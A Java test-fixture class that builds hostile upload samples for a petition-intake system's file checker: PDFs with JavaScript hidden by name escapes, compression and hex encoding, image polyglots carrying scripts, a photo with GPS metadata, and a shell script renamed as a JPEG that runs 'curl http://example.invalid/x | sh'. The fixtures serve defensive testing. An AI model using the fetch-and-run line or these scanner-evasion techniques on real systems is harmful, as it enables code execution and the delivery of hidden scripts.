package org.xuncha.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;


/** Test files: a photo carrying EXIF/GPS-like metadata, a small PDF, and the hostile corpus of issue 5. */
final class PetitionFiles {

    private PetitionFiles() {
    }

    /** A JPEG whose APP1 (Exif) and COM segments carry {@code marker}, as a phone's GPS tag and comment would. */
    static byte[] photoWithMetadata(String marker) {
        byte[] plain = image("jpeg");
        byte[] exif = ("Exif\0\0MM\0*GPSLatitude=23.1291;GPSLongitude=113.2644;Owner=" + marker)
                .getBytes(StandardCharsets.UTF_8);
        byte[] comment = ("camera owner " + marker).getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(plain, 0, 2); // SOI
        segment(out, 0xE1, exif);
        segment(out, 0xFE, comment);
        out.write(plain, 2, plain.length - 2);
        return out.toByteArray();
    }

    static byte[] png() {
        return image("png");
    }

    static byte[] pdf() {
        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] pdfWithJavaScript() {
        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >> endobj\n"
                + "trailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
    }

    /** JavaScript hidden behind a name escape: /J#61vaScript is /JavaScript. */
    static byte[] pdfWithEscapedJavaScript() {
        return ("%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj\n%%EOF\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** A PDF 1.5 whose JavaScript action sits in a zlib-compressed object stream (invisible in the raw bytes). */
    static byte[] pdfWithCompressedJavaScript() {
        byte[] objects = "2 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>".getBytes(StandardCharsets.ISO_8859_1);
        java.util.zip.Deflater deflater = new java.util.zip.Deflater();
        deflater.setInput(objects);
        deflater.finish();
        byte[] buffer = new byte[1024];
        int n = deflater.deflate(buffer);
        deflater.end();
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(("%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + n
                + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
        out.write(buffer, 0, n);
        out.writeBytes("\nendstream\nendobj\n3 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n%%EOF\n"
                .getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    /** A PDF whose JavaScript sits in an ASCIIHex-encoded object stream: an encoding the check does not decode. */
    static byte[] pdfWithHexEncodedJavaScript() {
        StringBuilder hex = new StringBuilder();
        for (byte b : "2 0 << /S /JavaScript /JS (app.alert(1)) >>".getBytes(StandardCharsets.ISO_8859_1)) {
            hex.append(String.format("%02x", b));
        }
        hex.append('>');
        return ("%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length " + hex.length()
                + " >>\nstream\n" + hex + "\nendstream\nendobj\n3 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A plain PDF with a compressed content stream (text drawing only): must be accepted. */
    static byte[] pdfWithCompressedText() {
        byte[] content = "BT /F1 12 Tf 72 720 Td (Hello) Tj ET".getBytes(StandardCharsets.ISO_8859_1);
        java.util.zip.Deflater deflater = new java.util.zip.Deflater();
        deflater.setInput(content);
        deflater.finish();
        byte[] buffer = new byte[1024];
        int n = deflater.deflate(buffer);
        deflater.end();
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(("%PDF-1.4\n1 0 obj\n<< /Filter /FlateDecode /Length " + n + " >>\nstream\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        out.write(buffer, 0, n);
        out.writeBytes("\nendstream\nendobj\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    static byte[] scriptRenamedJpg() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** A real JPEG with a zip archive appended: opens as a picture and as an archive. */
    static byte[] jpegZipPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(image("jpeg"));
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("payload.js"));
            zip.write("alert(1)".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A GIF that is also an HTML page with a script (GIFAR-style). */
    static byte[] gifHtmlPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(image("gif"));
        out.writeBytes("<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    /** A PNG with a PDF after its end. */
    static byte[] pngPdfPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(image("png"));
        out.writeBytes(pdf());
        return out.toByteArray();
    }

    static byte[] oversized() {
        byte[] big = new byte[(int) PetitionUploads.MAX_BYTES + 1];
        byte[] head = image("jpeg");
        System.arraycopy(head, 0, big, 0, head.length);
        return big;
    }

    private static byte[] image(String format) {
        return org.xuncha.platform.upload.HostileUploads.image(format);
    }

    private static void segment(ByteArrayOutputStream out, int marker, byte[] body) {
        out.write(0xFF);
        out.write(marker);
        int length = body.length + 2;
        out.write(length >> 8);
        out.write(length & 0xFF);
        out.writeBytes(body);
    }
}
